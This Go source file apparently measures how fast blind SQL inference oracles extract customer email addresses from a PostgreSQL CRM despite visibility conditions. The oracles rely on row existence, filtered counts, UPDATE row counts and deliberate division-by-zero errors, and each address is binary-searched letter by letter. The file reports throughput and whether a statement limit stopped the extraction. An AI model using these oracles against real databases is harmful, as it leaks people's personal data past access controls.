package main

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync/atomic"
	"time"

	"github.com/jackc/pgx/v5/pgconn"
)

// oracle is a statement of which the outcome tells whether an address comes before
// another text: a bit each time. Conditions on what may be seen are what a
// CRM is used for; who asks many is found by what it does, and slowed by a limit of
// statements, not by one of rows.
type oracle struct {
	name, sql string
	yes       func(results []*pgconn.Result, code string) bool
}

func oracles() []oracle {
	rows := func(results []*pgconn.Result, _ string) bool { return firstOf(results) != "" }
	return []oracle{
		{"whether a row comes", `SELECT 1 FROM customers WHERE number = $n AND email COLLATE "C" < '$x'`, rows},
		{"whether a row of somebody known comes", `SELECT number FROM customers WHERE number = 77 AND EXISTS (SELECT FROM customers WHERE number = $n AND email COLLATE "C" < '$x')`, rows},
		{"a count of very many, one or none of whom counts", `SELECT count(*) FILTER (WHERE number = $n AND email COLLATE "C" < '$x') FROM customers WHERE number BETWEEN $n - 20 AND $n + 20`,
			func(results []*pgconn.Result, _ string) bool { return firstOf(results) == "1" }},
		{"how many rows an UPDATE changes", `UPDATE customers SET city = city WHERE number = $n AND email COLLATE "C" < '$x'`,
			func(results []*pgconn.Result, _ string) bool {
				return len(results) > 0 && results[0].CommandTag.RowsAffected() == 1
			}},
		{"errors", `SELECT 1 FROM customers WHERE number = $n AND 1 / (CASE WHEN email COLLATE "C" < '$x' THEN 0 ELSE 1 END) = 2`,
			func(_ []*pgconn.Result, code string) bool { return code == "22012" }},
	}
}

// asking is how long an oracle is asked.
const asking = 12 * time.Second

// ask lets workers ask for addresses, letter by letter, and says how far they come.
func (o oracle) ask(ctx context.Context, a *arrangement, login string) error {
	t := &thief{at: a, login: login, haul: newHaul(a.stage.crowd), answers: map[string]int{}, said: map[string]string{}}
	defer t.hangUp(ctx)
	found := newHaul(a.stage.crowd)
	var bits atomic.Int64
	began := time.Now()
	err := t.each(func(s *session) error {
		for n := s.n + 1; n <= population && time.Since(began) < asking; n += workers {
			email, err := o.address(ctx, s, n, &bits)
			if err != nil {
				return err
			}
			if email == "" {
				return nil // who has had enough
			}
			found.look([]byte(email))
		}
		return nil
	})
	took := time.Since(began)
	fmt.Printf("%-54s %7.0f bits/s %8.0f customers an hour %s\n", o.name, float64(bits.Load())/took.Seconds(), float64(found.size())/took.Hours(), stopped(t))
	return err
}

func stopped(t *thief) string {
	if n := t.answers["53400"]; n > 0 {
		return "until the limit was reached"
	}
	return "all the time"
}

// address asks for one address; "" when nothing is answered any more.
func (o oracle) address(ctx context.Context, s *session, n int, bits *atomic.Int64) (string, error) {
	const letters = "234567abcdefghijklmnopqrstuvwxyz"
	email := "c"
	for range codeLength {
		low, high := 0, len(letters)
		for high-low > 1 {
			conn, err := s.open(ctx)
			if err != nil {
				return "", err
			}
			middle := (low + high) / 2
			sql := strings.NewReplacer("$n", fmt.Sprint(n), "$x", email+letters[middle:middle+1]).Replace(o.sql)
			results, err := conn.Exec(ctx, sql).ReadAll()
			if err := s.t.ended(ctx, err); err != nil {
				return "", err
			}
			var said *pgconn.PgError
			code := ""
			if errors.As(err, &said) {
				code = said.Code
			}
			if code == "53400" {
				return "", nil
			}
			bits.Add(1)
			if o.yes(results, code) {
				high = middle
			} else {
				low = middle
			}
		}
		email += letters[low : low+1]
	}
	return email + emailEnd, nil
}
